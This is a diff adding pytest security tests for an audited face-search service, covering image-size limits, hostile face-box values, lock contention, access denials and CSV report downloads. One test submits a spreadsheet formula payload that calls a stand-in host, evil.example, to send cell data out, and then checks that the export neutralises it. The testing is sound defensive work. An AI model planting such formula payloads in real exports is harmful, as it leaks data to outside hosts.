@@ -1,0 +1,85 @@
+"""Face finding (limits, audit, its own engine), hostile fields, CSV downloads, refused views and the audit trail's
+readers."""
+
+from __future__ import annotations
+
+from facetrail.accountability import service as service_module
+from tests.security.helpers import entries, run_search
+from tests.test_api import SEARCH_FIELDS, V1, jpeg
+from tests.test_api_security import png_claiming
+
+
+def test_finding_faces_is_for_investigators_audited_and_limited_below_enrolment(world, faces):
+    client, ivan = world.client, world.as_user("ivan")
+    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
+    assert client.post(f"{V1}/faces", headers=ivan, files={"image": photo}).status_code == 200
+    [inspected] = entries(world, "faces_inspected")
+    assert inspected["actor"] == "ivan" and inspected["details"]["faces"] == 1 and len(inspected["details"]["sha256"]) == 64
+    assert client.post(f"{V1}/faces", headers=world.as_user("alma"), files={"image": photo}).status_code == 403
+
+    huge = ("huge.png", png_claiming(6000, 6000), "image/png")  # 36 MP: enrolment would take it, face finding not
+    assert client.post(f"{V1}/faces", headers=ivan, files={"image": huge}).status_code == 413
+    assert "pixels" in entries(world, "faces_inspection_refused")[-1]["details"]["reason"]
+    refused = client.post(f"{V1}/searches", headers=ivan, files={"probe": huge}, data=SEARCH_FIELDS)
+    assert refused.status_code == 413 and entries(world, "search_refused")
+
+
+def test_a_search_does_not_wait_behind_someone_elses_face_finding(world, faces, monkeypatch):
+    monkeypatch.setattr(service_module, "INSPECTION_WAIT_SECONDS", 0.2)
+    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
+    busy = world.system._inspection_lock
+    assert busy.acquire()  # as if another user's photograph were being inspected
+    try:
+        assert run_search(world, faces) > 0
+        answer = world.client.post(f"{V1}/faces", headers=world.as_user("ivan"), files={"image": photo})
+        assert answer.status_code == 503 and answer.json()["error"]["type"] == "busy"
+    finally:
+        busy.release()
+
+
+def test_a_face_box_with_huge_numbers_is_refused_and_audited(world, faces):
+    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
+    box = "99999999999999999999,1,10,10"
+    refused = world.client.post(f"{V1}/searches", headers=world.as_user("ivan"), files={"probe": photo},
+                                data={**SEARCH_FIELDS, "face_box": box})
+    assert refused.status_code == 422 and "at most" in refused.json()["error"]["reason"]
+    assert "at most" in entries(world, "search_refused")[-1]["details"]["reason"]
+    inspected = world.client.post(f"{V1}/faces", headers=world.as_user("ivan"), files={"image": photo},
+                                  data={"face_box": "1,1,2147483648,10"})
+    assert inspected.status_code == 400 and entries(world, "faces_inspection_refused")
+
+
+def test_report_downloads_neutralise_spreadsheet_formulas(world, faces):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    photo = ("still.jpg", jpeg(faces["obama3.jpg"], 600), "image/jpeg")
+    world.client.post(f"{V1}/searches", headers=world.as_user("ivan"), files={"probe": photo},
+                      data={**SEARCH_FIELDS, "purpose": formula})
+    report = world.client.get(f"{V1}/reports", params={"format": "csv", "by": "purpose"}, headers=world.as_user("alma"))
+    assert report.status_code == 200
+    cells = [line.split(",")[0] for line in report.text.splitlines()]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), report.text
+    assert "'=HYPERLINK" in report.text
+
+
+def test_refused_looks_at_photographs_and_admin_routes_are_audited(world, faces):
+    search_id = run_search(world, faces)
+    for username, path in (("alma", f"/searches/{search_id}/probe"), ("admin", f"/searches/{search_id}/candidates/1/image"),
+                           ("tina", f"/searches/{search_id}"), ("ivan", "/users")):
+        assert world.client.get(f"{V1}{path}", headers=world.as_user(username)).status_code == 403
+    denied = {(e["actor"], e["details"]["action"]) for e in entries(world, "access_denied")}
+    assert {("alma", "view_candidate_images"), ("admin", "view_candidate_images"), ("tina", "view_candidate_images"),
+            ("ivan", "manage_users")} <= denied
+
+
+def test_reading_the_audit_trail_is_audited(world):
+    answer = world.client.get(f"{V1}/audit/entries", params={"action": "search", "limit": 10}, headers=world.as_user("alma"))
+    assert answer.status_code == 200
+    [viewed] = entries(world, "audit_viewed")
+    assert viewed["actor"] == "alma" and viewed["details"]["action"] == "search"
+
+
+def test_a_unit_named_with_a_slash_can_be_granted_and_revoked(world):
+    admin = world.as_user("admin")
+    assert world.client.post(f"{V1}/galleries/county/grants", headers=admin, json={"unit": "RHD/Night"}).status_code == 201
+    assert world.client.delete(f"{V1}/galleries/county/grants/RHD/Night", headers=admin).status_code == 204
+    assert "RHD/Night" not in world.client.get(f"{V1}/galleries/county", headers=admin).json()["searchable_by_units"]
